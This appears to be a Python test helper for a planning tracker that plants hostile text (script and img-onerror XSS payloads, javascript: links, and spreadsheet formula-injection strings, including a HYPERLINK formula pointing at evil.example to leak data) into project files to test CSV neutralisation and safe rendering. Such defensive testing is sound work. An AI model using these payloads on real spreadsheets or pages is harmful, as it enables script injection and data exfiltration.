"""Hostile text in the places leads and analysts write it, shared by the hostile-input tests.

Each string mixes what a spreadsheet would run (a leading = + - @ or tab), what a
browser would run (HTML, a javascript: link) and what Markdown would format, so one
project exercises CSV neutralisation and inert rendering at once.
"""

from __future__ import annotations

import json
import re

from tracker.plans.editing import add_update
from tracker.project import Project

MARKUP = ("<script>alert('script')</script> <img src=x onerror=alert('img')> "
          "[click me](javascript:alert('link')) **not bold** $x^2$ :material/warning: <b>b</b> # no heading")
OBJECTIVE = "+SUM(1,2) Hostile objective " + MARKUP
COMMENTARY = ('=HYPERLINK("http://evil.example/?leak","Click") Hostile commentary ' + MARKUP + " "
              + "long " * 20_000)  # about 100,000 characters
MITIGATIONS = "\t=1+1 hostile mitigations | a | b |"
LEAD = "@Lead <i>hostile</i>"
UPDATED_BY = "-Mallory"
AREA = "-Hostile area <img src=x onerror=alert('area')> **area**"
METRIC = "=Hostile metric <img src=x onerror=alert('metric')>"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _set_key(text: str, objective_id: str, key: str, value: str) -> str:
    """Set `key` of one objective to `value` (a one-line, double-quoted scalar)."""
    start = text.index(f"id: {objective_id}\n")
    end = text.find("- id: ", start)
    end = len(text) if end < 0 else end
    block = text[start:end]
    quoted = json.dumps(value)
    found = re.search(rf"^(\s*){key}: .*?\n(?=\1\S|\Z)", block, re.M | re.S)
    if found:
        block = block[:found.start()] + f"{found.group(1)}{key}: {quoted}\n" + block[found.end():]
    else:
        indent = re.search(r"^(\s*)objective: ", block, re.M).group(1)  # type: ignore[union-attr]
        block = block.replace(f"\n{indent}objective: ", f"\n{indent}{key}: {quoted}\n{indent}objective: ", 1)
    return text[:start] + block + text[end:]


def make_hostile(project: Project, plan_id: str, area_id: str, objective_id: str, quarter: str) -> None:
    """Put hostile text into one objective, its area's name, its update for `quarter`, and
    (where there is one) the first metric's name."""
    area_file = project.objectives_dir / plan_id / f"{area_id}.yaml"
    text = area_file.read_text(encoding="utf-8")
    text = _set_key(text, objective_id, "objective", OBJECTIVE)
    text = _set_key(text, objective_id, "lead", "hostile-lead")
    area_file.write_text(text, encoding="utf-8")
    _add_people(project)
    plan_file = project.objectives_dir / plan_id / "plan.yaml"
    plan = plan_file.read_text(encoding="utf-8")
    plan = re.sub(rf"(- id: {area_id}\n\s*name: ).*\n", lambda m: m.group(1) + json.dumps(AREA) + "\n", plan)
    plan_file.write_text(plan, encoding="utf-8")
    metrics = project.data_dir / "metrics" / "examples.yaml"
    if metrics.is_file():
        definitions = metrics.read_text(encoding="utf-8")
        metrics.write_text(re.sub(r"(\n    name: ).*\n", lambda m: m.group(1) + json.dumps(METRIC) + "\n",
                                  definitions, count=1), encoding="utf-8")
    add_update(project, objective_id, {
        "quarter": quarter, "rag": "red", "commentary": COMMENTARY, "mitigations": MITIGATIONS,
    }, replace=True, by="hostile-pmo")


def _add_people(project: Project) -> None:
    """Names now come from the people register: the lead and the writer of the update are
    people whose names are hostile."""
    import yaml

    path = project.objectives_dir / "people.yaml"
    register = yaml.safe_load(path.read_text(encoding="utf-8"))
    for person_id, name, role in (("hostile-lead", LEAD, "lead"), ("hostile-pmo", UPDATED_BY, "pmo")):
        register["people"].append({"id": person_id, "name": name, "job_title": "Lead",
                                   "organisation": "Sefton Council",
                                   "email": f"{person_id}@example.invalid", "roles": [role]})
    path.write_text(yaml.safe_dump(register, allow_unicode=True, sort_keys=False), encoding="utf-8")


def formula_cells(rows: list[list[str]]) -> list[str]:
    """The cells of a parsed CSV that a spreadsheet would run as formulas."""
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell)]
